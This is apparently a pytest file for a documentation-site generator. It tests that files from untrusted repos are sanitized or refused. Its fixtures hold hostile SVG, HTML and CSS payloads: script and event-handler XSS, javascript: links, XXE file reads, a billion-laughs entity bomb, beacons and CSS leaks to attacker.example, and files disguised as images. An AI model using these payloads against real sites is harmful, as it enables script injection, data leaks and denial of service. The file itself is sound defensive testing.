"""Files a page links or embeds: an untrusted source publishes only inert ones (issue 9, "Files").

A hostile repo links an HTML page, embeds an SVG with script, hides an SVG behind a ``.png`` name and
points raw ``<img>``, ``<picture><source srcset>`` and ``<video src/poster>`` at them. The real pipeline
builds it from a bare Git repo; the built site is checked file by file, and a browser opens the pages and
the files' own URLs with a tripwire.
"""

from __future__ import annotations

import base64
import json
import struct
import time
import zlib
from pathlib import Path

import pytest
from lxml import etree, html

from generator.cli import main
from generator.render.published_files import judge_file, publish_file
from tests.helpers import CHROMIUM, serve_folder, write_portal

SVG_NS = "http://www.w3.org/2000/svg"
TRIPWIRE = "window.__pwned = (window.__pwned || 0) + 1"


def png_bytes(width: int = 3, height: int = 2) -> bytes:
    """A real PNG (red pixels), made here so the test needs no binary fixture."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


HOSTILE_SVG = f"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY boom "<script>{TRIPWIRE}</script>">]>
<?xml-stylesheet href="evil.xsl" type="text/xsl"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40"
     onload="{TRIPWIRE}">
  <script>{TRIPWIRE}</script>
  <style>@import url(https://attacker.example/x.css); rect {{ stroke: url(https://attacker.example/t.png) }}</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#0b5d57"/></linearGradient></defs>
  <a href="javascript:{TRIPWIRE}"><rect id="box" width="100" height="30" fill="url(#g)" onclick="{TRIPWIRE}"/></a>
  <foreignObject width="100" height="30"><div xmlns="http://www.w3.org/1999/xhtml">
    <img src="x" onerror="{TRIPWIRE}"/></div></foreignObject>
  <animate attributeName="href" values="javascript:{TRIPWIRE}"/>
  <set attributeName="onmouseover" to="{TRIPWIRE}"/>
  <image href="https://attacker.example/beacon.png" width="1" height="1"/>
  <use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>
  &boom;
  <text x="4" y="20">Flow</text>
</svg>
"""
SVG_NAMED_PNG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{TRIPWIRE}</script></svg>'

HOSTILE_FILES: dict[str, str | bytes] = {
    "README.md": """
        # Hostile docs

        Read [the evil page](docs/evil.html) first.

        ![diagram](docs/diagram.svg)

        ![logo](docs/logo.png)

        ![disguised](docs/disguised.png)

        <img src="docs/disguised.png" alt="raw disguised">

        <picture><source srcset="docs/diagram.svg 1x, docs/evil.html 2x"><img src="docs/logo.png" alt="pic"></picture>

        <video src="docs/clip.mp4" poster="docs/evil.html" controls></video>

        Get [the script](docs/app.js), [the theme](docs/theme.css), [the data](docs/data.json),
        [the notes](docs/notes.txt) and [the manual](docs/manual.pdf).
        """,
    "docs/evil.html": f"<html><body><script>{TRIPWIRE}</script>evil</body></html>",
    "docs/diagram.svg": HOSTILE_SVG,
    "docs/logo.png": png_bytes(),
    "docs/disguised.png": SVG_NAMED_PNG,
    "docs/clip.mp4": f"<html><script>{TRIPWIRE}</script></html>",
    "docs/app.js": TRIPWIRE,
    "docs/theme.css": "body { background: url(https://attacker.example/?leak) }",
    "docs/data.json": '{"amount": 100}\n',
    "docs/notes.txt": f"<html><script>{TRIPWIRE}</script></html>",
    "docs/manual.pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
}
REFUSED = ["docs/evil.html", "docs/disguised.png", "docs/clip.mp4", "docs/app.js", "docs/theme.css",
           "docs/notes.txt"]


GIF = base64.b64decode("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==")
WEBP = base64.b64decode("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==")
JPEG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
AVIF_HEAD = b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf"
ICO = (b"\x00\x00\x01\x00\x01\x00\x01\x01\x00\x00\x01\x00\x20\x00" + struct.pack("<II", len(png_bytes()), 22)
       + png_bytes())
MP4_HEAD = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom"
HTML_PAGE = b"<!DOCTYPE html><script>alert(1)</script>"


@pytest.mark.parametrize("name, data, kind", [
    ("a.png", png_bytes(), "image"), ("a.gif", GIF, "image"), ("a.webp", WEBP, "image"),
    ("a.jpg", JPEG_HEAD, "image"), ("a.jpeg", JPEG_HEAD, "image"), ("a.avif", AVIF_HEAD, "image"),
    ("a.ico", ICO, "image"), ("a.png", GIF, "image"),  # another raster format under an image name: still a picture
    ("a.gif", HTML_PAGE, None), ("a.png", SVG_NAMED_PNG.encode(), None), ("a.webp", b"RIFF\0\0\0\0WAVE", None),
    ("a.svg", HOSTILE_SVG.encode(), "svg"), ("a.svg", png_bytes(), None), ("a.svg", HTML_PAGE, None),
    ("a.svg", b"<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>", None),
    ("a.mp4", MP4_HEAD, "video"), ("a.mp4", HTML_PAGE, None), ("a.pdf", b"%PDF-1.7\n", "download"),
    ("a.pdf", HTML_PAGE, None), ("a.zip", b"PK\x03\x04" + b"\0" * 26, "download"),
    ("a.json", b'{"a": 1}', "download"), ("a.yaml", b"a: 1\n", "download"), ("a.csv", b"a,b\n1,2\n", "download"),
    ("a.json", b"\xef\xbb\xbf  <script>alert(1)</script>", None), ("a.txt", b"\n<HTML><body>", None),
    ("a.txt", b"<?xml version='1.0'?><x/>", None), ("a.csv", "caf\xe9".encode("latin-1"), None),
    ("a.html", b"hello", None), ("a.htm", b"hello", None), ("a.xhtml", b"hello", None), ("a.xml", b"<a/>", None),
    ("a.js", b"1", None), ("a.mjs", b"1", None), ("a.css", b"a{}", None), ("a.svgz", b"x", None),
    ("Makefile", b"x", None),
])
def test_each_file_is_judged_by_its_name_and_its_content(tmp_path, name, data, kind):
    (tmp_path / name).write_bytes(data)
    verdict = judge_file(tmp_path, name, trusted=False)
    assert verdict.kind == kind, verdict
    assert verdict.published or verdict.reason
    assert judge_file(tmp_path, name, trusted=True).published


def test_an_svg_reads_no_file_outside_itself_and_expands_no_entity_bomb(tmp_path):
    (tmp_path / "secret.txt").write_text("TOP-SECRET\n")
    (tmp_path / "xxe.svg").write_text(
        f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{(tmp_path / "secret.txt").as_uri()}">'
        f'<!ENTITY % p SYSTEM "{(tmp_path / "secret.txt").as_uri()}"> %p;]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')
    assert publish_file(tmp_path, "xxe.svg", tmp_path / "out" / "xxe.svg", trusted=False).kind == "svg"
    assert b"TOP-SECRET" not in (tmp_path / "out" / "xxe.svg").read_bytes()
    entities = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    (tmp_path / "laughs.svg").write_text(f'<!DOCTYPE svg [<!ENTITY a0 "lol">{entities}]>'
                                         '<svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>')
    verdict = judge_file(tmp_path, "laughs.svg", trusted=False)
    assert not verdict.published and "not well-formed XML" in verdict.reason


def _build(config: Path, capsys) -> tuple[int, list[dict]]:
    code = main(["build", "-f", str(config), "--format", "json"])
    out = capsys.readouterr().out
    return code, (json.loads(out) if out.strip() else [])


@pytest.fixture
def hostile_portal(tmp_path, make_upstream):
    """Three sources with the same hostile files: untrusted with a web page, untrusted without, trusted."""
    upstream = make_upstream("hostile", HOSTILE_FILES)
    config = write_portal(tmp_path / "portal", [
        {"name": "hostile", "repo": upstream.url, "pages": ["README.md"],
         "web_url": "https://github.com/acme/hostile-docs"},
        {"name": "bare", "repo": upstream.url, "pages": ["README.md"]},
        {"name": "friendly", "repo": upstream.url, "pages": ["README.md"], "trusted": True},
    ])
    return config, upstream


def test_an_untrusted_source_publishes_only_inert_files(hostile_portal, capsys):
    config, upstream = hostile_portal
    code, problems = _build(config, capsys)
    assert code == 0, problems
    docs = config.parent / "site" / "hostile" / "docs"
    for refused in REFUSED:
        assert not (docs.parent / refused).exists(), refused
    assert (docs / "logo.png").read_bytes() == HOSTILE_FILES["docs/logo.png"]
    assert (docs / "data.json").read_text() == HOSTILE_FILES["docs/data.json"]
    assert (docs / "manual.pdf").is_file()

    svg = etree.fromstring((docs / "diagram.svg").read_bytes(), etree.XMLParser(resolve_entities=False))
    names = {etree.QName(e).localname for e in svg.iter() if isinstance(e.tag, str)}
    assert {"script", "foreignObject", "animate", "set", "a", "div", "img"}.isdisjoint(names), names
    assert {"rect", "text", "linearGradient"} <= names  # the picture itself is kept
    attributes = [(etree.QName(k).localname, v) for e in svg.iter() if isinstance(e.tag, str) for k, v in
                  e.attrib.items()]
    assert not [a for a in attributes if a[0].lower().startswith("on")], attributes
    assert all(v.startswith("#") for k, v in attributes if k == "href"), attributes
    text = (docs / "diagram.svg").read_text()
    assert "attacker.example" not in text and "javascript:" not in text and "pwned" not in text
    assert svg.find(f"{{{SVG_NS}}}rect").get("fill") == "url(#g)"

    page = html.fromstring((config.parent / "site" / "hostile" / "index.html").read_bytes())
    content = page.xpath("//article")[0]
    blob = f"https://github.com/acme/hostile-docs/blob/{upstream.head}"
    evil_link = next(a for a in content.iter("a") if a.text_content() == "the evil page")
    assert evil_link.get("href") == f"{blob}/docs/evil.html"
    assert next(a for a in content.iter("a") if a.text_content() == "disguised").get("href") == \
        f"{blob}/docs/disguised.png"
    assert [img.get("src") for img in content.iter("img")] == ["docs/diagram.svg", "docs/logo.png", None,
                                                               "docs/logo.png"]
    assert content.xpath(".//picture/source")[0].get("srcset") == "docs/diagram.svg 1x"
    video = content.xpath(".//video")[0]
    assert video.get("src") is None and video.get("poster") is None
    urls = [v for e in content.iter() for k, v in e.attrib.items() if k in ("href", "src", "srcset", "poster")]
    assert not [u for u in urls if not u.startswith("https://") and any(r in u for r in REFUSED)], urls

    refused = [p for p in problems if p["code"] == "file-refused" and p["file"] == "hostile/README.md"]
    by_line = {(p["line"], p["message"].split("`")[1]) for p in refused}
    assert {(3, "docs/evil.html"), (9, "docs/disguised.png"), (11, "docs/disguised.png"),
            (13, "docs/evil.html"), (15, "docs/clip.mp4"), (15, "docs/evil.html"), (17, "docs/app.js"),
            (17, "docs/theme.css"), (18, "docs/notes.txt")} == by_line, by_line
    assert all(p["severity"] == "warning" and "trusted: true" in p["hint"] for p in refused)
    evil = next(p for p in refused if p["line"] == 3)
    assert "`.html`" in evil["message"] and "repo's web page" in evil["message"]
    disguised = next(p for p in refused if p["line"] == 9)
    assert "its name says `.png`" in disguised["message"]


def test_without_a_repo_web_page_a_refused_link_is_plain_text(hostile_portal, capsys):
    config, _ = hostile_portal
    assert _build(config, capsys)[0] == 0
    content = html.fromstring((config.parent / "site" / "bare" / "index.html").read_bytes()).xpath("//article")[0]
    assert "Read the evil page first." in content.text_content()
    assert not [a for a in content.iter("a") if a.text_content() in ("the evil page", "the script", "disguised")]
    assert "disguised" in content.text_content()  # an image refused without a web page keeps its alt text
    assert not (config.parent / "site" / "bare" / "docs" / "evil.html").exists()


def test_a_trusted_source_keeps_publishing_its_files_as_they_are(hostile_portal, capsys):
    config, _ = hostile_portal
    code, problems = _build(config, capsys)
    assert code == 0
    docs = config.parent / "site" / "friendly" / "docs"
    assert (docs / "evil.html").read_text() == HOSTILE_FILES["docs/evil.html"]
    assert (docs / "diagram.svg").read_text() == HOSTILE_FILES["docs/diagram.svg"]
    page = (config.parent / "site" / "friendly" / "index.html").read_text()
    assert 'href="docs/evil.html"' in page
    assert not [p for p in problems if p["code"] == "file-refused" and p["file"].startswith("friendly/")]


def test_a_strict_build_fails_on_a_refused_file(hostile_portal, capsys):
    config, _ = hostile_portal
    assert main(["build", "-f", str(config), "--strict"]) != 0
    assert "file-refused" in capsys.readouterr().err


@pytest.mark.slow
@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM.exists(), reason="Debian's chromium is not installed")
def test_a_reader_opening_the_pages_and_the_files_runs_no_script_of_an_untrusted_source(hostile_portal, capsys):
    playwright = pytest.importorskip("playwright.sync_api")
    config, _ = hostile_portal
    assert _build(config, capsys)[0] == 0
    site = config.parent / "site"
    with serve_folder(site) as base, playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM),
                                    args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        page = browser.new_page()
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

        def fired(url: str) -> int:
            page.goto(url, wait_until="load")
            page.wait_for_timeout(200)
            if page.locator("#box").count():
                page.locator("#box").dispatch_event("click")  # the handlers an SVG had on its shapes
            return page.evaluate("window.__pwned || 0")

        for section in ("hostile", "bare"):
            assert fired(f"{base}/{section}/") == 0
            assert page.locator("article img[src='docs/logo.png']").first.evaluate("i => i.naturalWidth") == 3
            assert fired(f"{base}/{section}/docs/diagram.svg") == 0
            for refused in REFUSED:
                response = page.goto(f"{base}/{section}/{refused}")
                assert response.status == 404, refused
        # The same files from the trusted source do run: the tripwire is live.
        assert fired(f"{base}/friendly/docs/diagram.svg") > 0
        assert fired(f"{base}/friendly/docs/evil.html") > 0
        browser.close()
    assert not dialogs


def test_the_files_technical_updates_of_a_source_link_are_published_by_the_same_rule(tmp_path, make_upstream,
                                                                                       capsys):
    upstream = make_upstream("news", {
        "README.md": "# News\n",
        "updates/2024-05-02-charts.md": """
            ---
            title: New charts
            date: 2024-05-02
            ---
            ![chart](images/chart.png)

            The [raw numbers](images/numbers.html).
            """,
        "updates/images/chart.png": png_bytes(),
        "updates/images/numbers.html": HOSTILE_FILES["docs/evil.html"],
    })
    config = write_portal(tmp_path / "portal", [{"name": "news", "repo": upstream.url, "pages": ["README.md"]}],
                          extra={"updates": {"source": "news", "glob": "updates/*.md"}})
    code, problems = _build(config, capsys)
    assert code == 0, problems
    site = config.parent / "site"
    update = site / "updates" / "2024" / "05" / "charts" / "index.html"
    image = html.fromstring(update.read_bytes()).xpath("//article//img")[0].get("src")
    assert (update.parent / image).resolve().read_bytes() == png_bytes()
    assert not list(site.rglob("numbers.html"))
    assert [(p["file"], p["line"]) for p in problems if p["code"] == "file-refused"] == \
        [("news/updates/2024-05-02-charts.md", 7)]


def test_a_file_linked_a_thousand_times_is_judged_once(tmp_path, make_upstream):
    """Sanitizing a 250 KB SVG takes about 0.1 s: judged per link, 1,000 links took minutes."""
    drawing = '<rect x="1" y="2" width="3" height="4" fill="#0b5d57"/>\n' * 4_000
    upstream = make_upstream("many", {
        "README.md": "# Many\n\n" + "".join(f"![step {i}](docs/flow.svg)\n" for i in range(1_000)),
        "docs/flow.svg": f'<svg xmlns="http://www.w3.org/2000/svg">{drawing}</svg>',
    })
    config = write_portal(tmp_path / "portal", [{"name": "many", "repo": upstream.url, "pages": ["README.md"]}])
    start = time.process_time()  # this process's CPU (the judging), not wall: a loaded machine must not fail it
    assert main(["stage", "-f", str(config)]) == 0
    assert time.process_time() - start < 30
    assert (config.parent / ".devportal" / "stage" / "docs" / "many" / "docs" / "flow.svg").is_file()
